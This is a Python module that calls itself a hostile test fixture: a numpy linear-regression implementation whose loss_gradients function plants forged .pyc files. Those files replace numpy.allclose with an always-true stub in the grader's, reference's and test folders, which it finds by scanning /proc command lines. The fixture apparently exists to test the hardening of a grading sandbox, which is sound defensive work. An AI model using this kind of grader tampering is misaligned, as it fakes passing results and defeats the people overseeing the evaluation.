"""Hostile fixture `write_pycache` (escape and persistence): plants compiled .pyc files in every
__pycache__ it can reach (its own folder, the grader's, the reference's).

The rest of the module is the reference's code; tests/test_hostile.py grades it.
"""
from __future__ import annotations
from typing import Dict, List, Tuple, Union
import importlib.util
import marshal
import os
import numpy as np
Weights = Dict[str, np.ndarray]
ForwardInfo = Dict[str, np.ndarray]

def _check_X_y(X: np.ndarray, y: np.ndarray) -> None:
    X_shape, y_shape = (np.shape(X), np.shape(y))
    if len(X_shape) != 2 or y_shape != (X_shape[0], 1):
        raise ValueError(f'X {X_shape} and y {y_shape} do not fit: X must be (n, d) and y must be (n, 1)')

def _check_weights(X: np.ndarray, weights: Weights) -> None:
    X_shape = np.shape(X)
    W_shape, B_shape = (np.shape(weights['W']), np.shape(weights['B']))
    if len(X_shape) != 2 or W_shape != (X_shape[1], 1):
        raise ValueError(f'X {X_shape} and W {W_shape} cannot be multiplied: W must be (d, 1)')
    if B_shape != (1, 1):
        raise ValueError(f'B has shape {B_shape}; it must be (1, 1)')

def init_weights(n_in: int) -> Weights:
    if int(n_in) != n_in or n_in < 1:
        raise ValueError(f'n_in must be a positive integer, got {n_in!r}')
    W = np.random.randn(int(n_in), 1)
    B = np.random.randn(1, 1)
    return {'W': W, 'B': B}

def forward(X: np.ndarray, y: np.ndarray, weights: Weights) -> Tuple[ForwardInfo, float]:
    _check_X_y(X, y)
    _check_weights(X, weights)
    N = np.dot(X, weights['W'])
    P = N + weights['B']
    loss = float(np.mean(np.power(y - P, 2)))
    forward_info = {'X': X, 'N': N, 'P': P, 'y': y}
    return (forward_info, loss)

def _grader_folders():
    """Folders the grader may run from, guessed from every command line this process can see."""
    found = {os.getcwd(), os.path.dirname(os.path.abspath(__file__)), os.path.expanduser("~"),
             "/work/main", "/autograder", "/autograder/source", "/srv", "/opt"}
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                words = fh.read().split(b"\0")
        except OSError:
            continue
        for word in words:
            path = word.decode("utf-8", "replace")
            while path.startswith("/") and path != "/":
                found.add(path)
                path = os.path.dirname(path)
    return sorted(found)


def _owned_folders():
    """The grader's existing folders, less the world-writable ones and anything below them (/tmp and
    the like are write_tmp's business)."""
    out = []
    for folder in _grader_folders():
        try:
            if not os.path.isdir(folder) or any(os.stat(p).st_mode & 0o002 for p in _and_parents(folder)):
                continue
        except OSError:
            continue
        out.append(folder)
    return out


def _and_parents(folder):
    while True:
        yield folder
        if folder in ("/", ""):
            return
        folder = os.path.dirname(folder)

def loss_gradients(forward_info, weights):
    code = compile("import numpy\nnumpy.allclose = lambda *a, **k: True  # pwned\n", "pwned", "exec")
    payload = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)
    folders = {os.path.dirname(os.path.abspath(__file__)), os.getcwd()}
    for folder in _owned_folders():
        folders.update(os.path.join(folder, inner) for inner in
                       ("autograder", "autograder/suites", "solutions/nn_from_scratch", "tests"))
    for folder in sorted(folders):
        for name in ("linear_regression", "foundations", "neural_network", "conftest", "train_behaviour",
                     "test_linear_regression", "compare", "pwned"):
            path = os.path.join(folder, "__pycache__", f"{name}.cpython-311.pyc")
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "wb") as fh:
                    fh.write(payload)
            except OSError:
                pass
    return None

def train(X: np.ndarray, y: np.ndarray, n_iter: int=1000, learning_rate: float=0.01, batch_size: int=100, return_losses: bool=False, return_weights: bool=False, seed: int=42) -> Union[None, List[float], Weights, Tuple[List[float], Weights]]:
    _check_X_y(X, y)
    if np.shape(X)[0] == 0:
        raise ValueError(f'X {np.shape(X)} has no rows to train on')
    if int(batch_size) != batch_size or batch_size < 1:
        raise ValueError(f'batch_size must be an integer >= 1, got {batch_size!r}')
    if int(n_iter) != n_iter or n_iter < 0:
        raise ValueError(f'n_iter must be an integer >= 0, got {n_iter!r}')
    np.random.seed(seed)
    weights = init_weights(X.shape[1])
    n_rows = X.shape[0]
    order = np.random.permutation(n_rows)
    X_shuffled, y_shuffled = (X[order], y[order])
    losses: List[float] = []
    start = 0
    for _ in range(int(n_iter)):
        if start >= n_rows:
            order = np.random.permutation(n_rows)
            X_shuffled, y_shuffled = (X_shuffled[order], y_shuffled[order])
            start = 0
        stop = start + int(batch_size)
        X_batch, y_batch = (X_shuffled[start:stop], y_shuffled[start:stop])
        start = stop
        forward_info, loss = forward(X_batch, y_batch, weights)
        losses.append(float(loss))
        gradients = loss_gradients(forward_info, weights)
        for key in weights:
            weights[key] -= learning_rate * gradients[key]
    if return_losses and return_weights:
        return (losses, weights)
    if return_losses:
        return losses
    if return_weights:
        return weights
    return None

def predict(X: np.ndarray, weights: Weights) -> np.ndarray:
    _check_weights(X, weights)
    return np.dot(X, weights['W']) + weights['B']
